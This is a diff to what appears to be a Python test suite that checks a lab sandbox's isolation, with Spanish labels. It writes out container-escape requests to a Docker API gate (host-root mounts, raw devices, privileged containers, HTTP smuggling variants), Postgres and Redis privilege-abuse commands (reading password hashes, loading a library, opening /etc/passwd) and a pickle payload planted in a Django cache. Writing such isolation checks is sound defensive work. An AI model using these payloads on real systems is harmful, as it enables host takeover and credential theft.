@@ -3,8 +3,12 @@
 import http.client
 import json
 import os
+import pickle
+import re
 import socket
+import sys
 from collections.abc import Callable
+from contextlib import suppress
 from urllib.parse import urlsplit
 
 import psycopg
@@ -29,6 +33,11 @@ def ask(method: str, path: str, body: object = None) -> int:
     return connection.getresponse().status
 
 
+_LOCAL = {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}
+_BIND = {"Type": "volume", "Target": "/anfitrion", "VolumeOptions": {"DriverConfig": _LOCAL}}
+_DISK = {"PathOnHost": "/dev/vda", "PathInContainer": "/dev/vda", "CgroupPermissions": "rwm"}
+
+
 def be_root_by_the_engine(sandbox: str) -> Outcome:
     """Everything that makes an engine the root of its machine."""
     hosts = {"Image": sandbox, "Labels": {}}
@@ -42,6 +51,15 @@ def be_root_by_the_engine(sandbox: str) -> Outcome:
             "descargar": ("POST", "/images/create?fromImage=busybox", None),
             "volúmenes": ("GET", "/volumes", None),
             "complementos": ("POST", "/plugins/pull?remote=x", []),
+            "con su cgroup y sus mensajes": (
+                "POST",
+                "/containers/create",
+                {**hosts, "HostConfig": {"IpcMode": "host", "CgroupnsMode": "host"}},
+            ),
+            "con un volumen que monta / de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"Mounts": [_BIND]}}),
+            "con un disco de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"Devices": [_DISK]}}),
+            "con los puertos de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"PortBindings": {"80/tcp": [{}]}}}),
+            "con la red de otro contenedor": ("POST", "/containers/create", {**hosts, "HostConfig": {"NetworkMode": "container:lab-0"}}),
             "swarm": ("POST", "/swarm/init", {"ListenAddr": "0.0.0.0"}),  # asked of the engine, not of us
         }
     )
@@ -67,6 +85,41 @@ def pass_the_gate_by(sandbox: str) -> Outcome:
             "podar": ("POST", "/containers/prune", None),
         }
     )
+
+
+def by_hand(sandbox: str) -> Outcome:
+    """Requests as no library writes them: what the gate is shown might not be what the engine reads."""
+    privileged = json.dumps({"Image": sandbox, "HostConfig": {"Privileged": True}}).encode()
+    create, sized = b"POST /containers/create HTTP/1.1\r\nHost: x\r\n", b"Content-Length: %d\r\n\r\n" % len(privileged)
+    json_type, chunked = b"Content-Type: application/json\r\n", b"Transfer-Encoding: chunked\r\n"
+    large = b'{"Hostname":"' + b"x" * (1 << 20) + b'",' + privileged[1:]
+    tried = {
+        "con otro tipo": create + b"Content-Type: text/plain\r\n" + sized + privileged,
+        "sin tipo": create + sized + privileged,
+        "a trozos": create + json_type + chunked + b"\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(privileged), privileged),
+        "con dos medidas": create + json_type + chunked + b"Content-Length: 4\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(privileged), privileged),
+        "mayor de lo que se enseña": create + json_type + b"Content-Length: %d\r\n\r\n" % len(large) + large,
+        "con la dirección entera": create.replace(b"POST /", b"POST http://x/") + json_type + sized + privileged,
+        "con otro verbo encima": b"GET" + create[4:] + b"X-HTTP-Method-Override: POST\r\n" + json_type + sized + privileged,
+        "dos veces en una conexión": b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n" + create + json_type + sized + privileged,
+        "por HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0",
+        "con barras": create.replace(b"/containers", b"//containers/./..//containers") + json_type + sized + privileged,
+    }
+    made = [name for name, request in tried.items() if any(code.startswith((b"2", b"101")) for code in _answers(request)[-1:])]
+    return none_of(made, otherwise=f"{len(tried)} peticiones, ninguna se cumple")
+
+
+def _answers(request: bytes) -> list[bytes]:
+    """The status codes of all that comes back, until the other side closes or is quiet."""
+    said = b""
+    with socket.socket(socket.AF_UNIX) as connection:
+        connection.settimeout(3)
+        connection.connect(str(GATE))
+        with suppress(OSError):
+            connection.sendall(request)
+            while part := connection.recv(65536):
+                said += part
+    return re.findall(rb"^HTTP/1\.[01] (\d+)", said, re.MULTILINE)
 
 
 def _all_forbidden(tried: dict[str, tuple[str, str, object]]) -> Outcome:
@@ -101,6 +154,12 @@ def the_databases_server() -> Outcome:
         postgres("CREATE EXTENSION file_fdw"),
         postgres("ALTER ROLE lab SUPERUSER"),
         postgres("CREATE ROLE intruso"),
+        postgres("COPY (SELECT 1) TO '/tmp/intruso'"),
+        postgres("SELECT pg_ls_dir('/')::text"),
+        postgres("SELECT rolpassword FROM pg_authid"),
+        postgres("SET ROLE lab_root"),
+        postgres("CREATE EXTENSION dblink"),
+        postgres("LOAD '/tmp/intruso.so'"),
         postgres("ALTER SYSTEM SET log_destination = 'stderr'"),
     )
 
@@ -124,4 +183,36 @@ def the_redis_server() -> Outcome:
         _redis("REPLICAOF", "NO", "ONE"),
         _redis("ACL", "LIST"),
         _redis("DEBUG", "SLEEP", "0"),
+        _redis("MIGRATE", "192.0.2.1", "6379", "", "0", "1", "KEYS", "x"),
+        _redis("RESTORE", "intruso", "0", "x"),
+        _redis("ACL", "SETUSER", "intruso", "on", "nopass", "~*", "+@all"),
+        _redis("EVAL", "return redis.call('config', 'get', '*')", "0"),
+        _redis("EVAL", "return io.open('/etc/passwd'):read()", "0"),
     )
+
+
+class _Program:
+    """What runs when it is read, where what is read are Python's objects: it leaves a mark."""
+
+    def __reduce__(self) -> tuple[Callable[[str], object], tuple[str]]:
+        return os.mkdir, (str(MARK),)
+
+
+MARK = TMP / "intruso-marca"
+
+
+def run_in_others_by_the_cache() -> Outcome:
+    """What the site's other processes read of the cache, read as they do."""
+    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "labsite.settings")
+    sys.path.insert(0, "/srv/lab")
+    from django.core.cache import cache  # the site's own: not there when this is packed
+
+    _redis("SET", cache.make_key("intruso"), pickle.dumps(_Program()))()
+    try:
+        seen = cache.get("intruso")
+    finally:
+        _redis("DEL", cache.make_key("intruso"))()
+    ran = MARK.exists()
+    if ran:
+        MARK.rmdir()
+    return none_of(["se ejecuta lo que se deja"] if ran else [], otherwise=f"se lee {seen!r}")
